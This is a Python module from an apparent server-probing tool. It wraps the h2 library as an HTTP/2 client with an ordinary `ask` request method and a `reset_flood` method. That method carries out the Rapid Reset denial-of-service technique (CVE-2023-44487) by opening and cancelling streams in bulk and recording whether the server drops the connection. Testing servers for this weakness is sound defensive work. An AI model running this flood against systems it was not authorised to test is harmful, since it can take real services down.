"""HTTP/2 as a client: decent (`ask`), and not (`reset_flood`), for probes of what is put up with.

The frames are the `h2` library's; sockets and bounds are ours. One connection at a time.
"""

import ssl
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from troth.adapters import tcp, tls
from troth.kernel.errors import Failure

_CHUNK_BYTES = 65_536
_MAX_ANSWER_BYTES = 1024 * 1024

Pairs = tuple[tuple[str, str], ...]


class Http2Error(Failure):
    """No whole answer over HTTP/2."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Answer:
    """A response's status and header fields (names in lower case); its body is dropped."""

    status: int
    headers: Pairs

    def all(self, name: str) -> tuple[str, ...]:
        """Every value of a header, name in lower case."""
        return tuple(value for key, value in self.headers if key == name)


@dataclass(frozen=True, slots=True, kw_only=True)
class Flooded:
    """How a flood of cancelled requests ended.

    Args:
        sent: requests that were begun and cancelled.
        is_ended: the server ended the connection.
    """

    sent: int
    is_ended: bool


class Session:
    """An open connection; made by `session`."""

    def __init__(self, door: ssl.SSLSocket, authority: str, timeout_s: float) -> None:
        self._door = door
        self._authority = authority
        self._timeout_s = timeout_s
        self._state = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self._state.initiate_connection()
        self._flush()

    def ask(self, path: str, *, method: str = "GET", headers: Pairs = ()) -> Answer:
        """One request without a body, and its answer.

        Raises:
            Http2Error: the stream or the connection was ended. TimeoutError: too slow.
        """
        stream = self._begin(path, method, headers, is_whole=True)
        deadline = time.monotonic() + self._timeout_s
        answer: Answer | None = None
        for event in self._events(deadline):
            if getattr(event, "stream_id", stream) != stream:
                continue
            match event:
                case h2.events.ResponseReceived(headers=pairs):
                    fields = tuple((str(name), str(value)) for name, value in pairs or ())
                    status = int(dict(fields)[":status"])
                    answer = Answer(
                        status=status,
                        headers=tuple(pair for pair in fields if not pair[0].startswith(":")),
                    )
                case h2.events.StreamEnded() if answer is not None:
                    return answer
                case h2.events.StreamReset() | h2.events.ConnectionTerminated():
                    if answer is not None:
                        return answer
                    raise Http2Error("the request was reset", where=self._authority)
                case _:
                    pass
        raise Http2Error("the connection was closed", where=self._authority)

    def reset_flood(self, path: str, count: int) -> Flooded:
        """Begin `count` requests and cancel each at once (CVE-2023-44487)."""
        sent = 0
        try:
            while sent < count:
                stream = self._begin(path, "GET", (), is_whole=True, flush=False)
                self._state.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                sent += 1
                if sent % 50 == 0:
                    self._flush()
                    if self._is_ended():
                        return Flooded(sent=sent, is_ended=True)
            self._flush()
            deadline = time.monotonic() + self._timeout_s
            while time.monotonic() < deadline:
                if self._is_ended(wait_s=0.1):
                    return Flooded(sent=sent, is_ended=True)
        except (OSError, h2.exceptions.ProtocolError):
            return Flooded(sent=sent, is_ended=True)
        return Flooded(sent=sent, is_ended=False)

    def _begin(
        self, path: str, method: str, headers: Pairs, *, is_whole: bool, flush: bool = True
    ) -> int:
        stream = self._state.get_next_available_stream_id()
        own = (
            (":method", method),
            (":scheme", "https"),
            (":authority", self._authority),
            (":path", path),
        )
        self._state.send_headers(stream, [*own, *headers], end_stream=is_whole)
        if flush:
            self._flush()
        return stream

    def _flush(self) -> None:
        if data := self._state.data_to_send():
            self._door.settimeout(self._timeout_s)
            self._door.sendall(data)

    def _events(self, deadline: float) -> Iterator[h2.events.Event]:
        received = 0
        while received < _MAX_ANSWER_BYTES:
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"{self._authority}: no answer within {self._timeout_s:g} s")
            self._door.settimeout(left)
            try:
                data = self._door.recv(_CHUNK_BYTES)
                received += len(data)
                if not data:
                    return
                events = self._state.receive_data(data)
                for event in events:
                    if isinstance(event, h2.events.DataReceived) and event.flow_controlled_length:
                        size = event.flow_controlled_length
                        self._state.acknowledge_received_data(size, event.stream_id)
                self._flush()
            except TimeoutError:
                raise
            except (OSError, h2.exceptions.ProtocolError) as error:
                raise Http2Error(f"broken off: {error}", where=self._authority) from error
            yield from events

    def _is_ended(self, wait_s: float = 0.001) -> bool:
        """Whether the server has ended the connection; what else it says is dropped."""
        self._door.settimeout(wait_s)
        try:
            data = self._door.recv(_CHUNK_BYTES)
        except (TimeoutError, ssl.SSLWantReadError):
            return False
        except OSError:
            return True
        if not data:
            return True
        events = self._state.receive_data(data)
        return any(isinstance(event, h2.events.ConnectionTerminated) for event in events)


@contextmanager
def session(
    host: str,
    port: int,
    *,
    context: ssl.SSLContext,
    authority: str,
    timeout_s: float = 5,
    source: str = "",
) -> Iterator[Session]:
    """An HTTP/2 connection, until the end of the `with`; `context` offers `h2` by ALPN.

    Raises:
        Http2Error: the server does not speak it. TlsError, TcpError, TimeoutError: no connection.
    """
    where = f"{host}:{port}"
    door = tcp.connect(host, port, timeout_s=timeout_s, source=source)
    with tls.wrap(door, context, server_name=host, where=where) as secured:
        if secured.selected_alpn_protocol() != "h2":
            raise Http2Error("HTTP/2 was not agreed to", where=where)
        try:
            opened = Session(secured, authority, timeout_s)
        except OSError as error:
            raise Http2Error(f"broken off: {error}", where=where) from error
        yield opened
